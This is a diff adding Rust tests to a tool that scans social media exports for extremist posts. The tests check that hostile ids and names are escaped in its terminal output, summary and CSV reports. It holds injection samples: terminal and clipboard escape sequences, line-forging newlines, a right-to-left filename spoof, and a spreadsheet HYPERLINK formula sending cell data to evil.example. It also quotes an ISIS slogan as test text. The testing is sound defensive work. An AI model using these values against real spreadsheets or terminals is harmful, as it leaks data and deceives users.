@@ -1275,6 +1275,97 @@ fn a_link_cards_words_are_scored_and_its_evidence_placed_in_it() {
     assert!(summary.contains("(link card 1)"), "{summary}");
 }
 
+/// What a hostile input puts in an id, an account, a platform, a handle, a place or a
+/// field a diagnostic quotes (an escape sequence that drives the reviewer's terminal, a
+/// line break that forges a line of the summary, a right-to-left override) is written
+/// escaped in the summary, on the terminal and in `summary.txt`, and in the diagnostics:
+/// each record still on its one line, and still flagged.
+#[test]
+fn hostile_ids_and_names_cannot_drive_the_terminal_or_forge_a_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let input = write(
+        dir.path(),
+        "esc.jsonl",
+        format!(
+            "{}\n{}\n{}\n",
+            serde_json::json!({"id": "x\u{1b}[31mRED", "platform": "p\nq",
+                "account": "a\nFAKE: 0 posts flagged", "place": "pl\u{1b}[2J",
+                "text": "جنود الخلافة الدولة الإسلامية باقية وتتمدد"}),
+            serde_json::json!({"type": "account", "id": "a\nFAKE: 0 posts flagged",
+                "platform": "p\nq", "handle": "h\u{202e}gpj.exe"}),
+            serde_json::json!({"type": "account", "id": "b", "status": "\u{1b}]52;c;eA==\u{7}"}),
+        )
+        .as_bytes(),
+    );
+    let out = dir.path().join("r");
+    let o = run(&["scan", &input, "--out", out.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let summary = std::fs::read_to_string(out.join("summary.txt")).unwrap();
+    for (what, text) in [
+        ("stdout", stdout(&o)),
+        ("stderr", stderr(&o)),
+        ("summary.txt", summary),
+    ] {
+        assert!(
+            !text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\r']),
+            "{what}: {text:?}"
+        );
+        assert!(
+            !text.lines().any(|l| l.starts_with("FAKE")),
+            "{what}: a line forged: {text}"
+        );
+    }
+    let text = stdout(&o);
+    assert!(
+        text.contains("p\\u{a}q/x\\u{1b}[31mRED by a\\u{a}FAKE: 0 posts flagged"),
+        "{text}"
+    );
+    assert!(text.contains("@h\\u{202e}gpj.exe"), "{text}");
+    assert!(
+        stderr(&o).contains("unknown variant `\\u{1b}]52;c;eA==\\u{7}`"),
+        "{}",
+        stderr(&o)
+    );
+    // The reports keep the values as they were: JSON escapes them.
+    let posts = jsonl(&out.join("posts.jsonl"));
+    assert_eq!(posts[0]["id"], "x\u{1b}[31mRED");
+    assert_eq!(posts[0]["flagged"], true);
+}
+
+/// `accounts.csv` opens in a spreadsheet without running what an account put in its name:
+/// a display name or handle that a spreadsheet reads as a formula is written after an
+/// apostrophe; an id that is a negative number (a Telegram chat's) is left as it is; the
+/// JSON report keeps the values as they were.
+#[test]
+fn account_names_cannot_become_spreadsheet_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
+    let input = write(
+        dir.path(),
+        "f.jsonl",
+        format!(
+            "{}\n{}\n",
+            serde_json::json!({"type": "account", "id": "-1001234567", "platform": "telegram",
+                "display_name": name, "handle": "@SUM(1+1)"}),
+            serde_json::json!({"id": "1", "platform": "telegram", "account": "-1001234567",
+                "text": "جنود الخلافة الدولة الإسلامية باقية وتتمدد"}),
+        )
+        .as_bytes(),
+    );
+    let out = dir.path().join("r");
+    let o = run(&["scan", &input, "--out", out.to_str().unwrap(), "-q"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let csv = std::fs::read_to_string(out.join("accounts.csv")).unwrap();
+    let row = csv.lines().nth(1).unwrap();
+    assert!(
+        row.contains(",telegram,-1001234567,'@SUM(1+1),\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\","),
+        "{row}"
+    );
+    let accounts = jsonl(&out.join("accounts.jsonl"));
+    assert_eq!(accounts[0]["display_name"], name);
+    assert_eq!(accounts[0]["id"], "-1001234567");
+}
+
 /// A Discord data package's folder scans as its owner's messages: the owner's account
 /// (from `Account/user.json`) holds them all, and the package's other JSON (the account
 /// file, channel and server files, the activity log) is left out with a line, not read as
@@ -1643,7 +1734,7 @@ fn a_matrix_message_and_its_edits_count_once_for_the_sender() {
 
 /// A Discord channel exported by DiscordChatExporter: the propaganda-style message flagged
 /// with its author's account, the news bot's reply not, though the page it links to (its
-/// embed) repeats the words.
+/// embed, scored as a link card) repeats the words in its report.
 #[test]
 fn a_discord_export_is_scanned_as_a_channel() {
     let (_dir, out) = scan_all_posts("tests/data/discord_channel.json");
@@ -1652,6 +1743,15 @@ fn a_discord_export_is_scanned_as_a_channel() {
     assert_eq!(posts[0]["flagged"], true);
     assert_eq!(posts[0]["account"], "700000000000000001");
     assert_eq!(posts[1]["flagged"], false);
+    // Its embed was read and scored, as the report shows: a news page's words.
+    assert_eq!(posts[1]["media_kind"], serde_json::json!(["link"]));
+    assert!(
+        posts[1]["media_alt"][0]
+            .as_str()
+            .is_some_and(|a| a.starts_with("Arrests\nPolice arrested")),
+        "{}",
+        posts[1]
+    );
     // Where each was posted: the server and channel the export's head names; and its
     // page, from their ids and its own.
     for p in &posts {
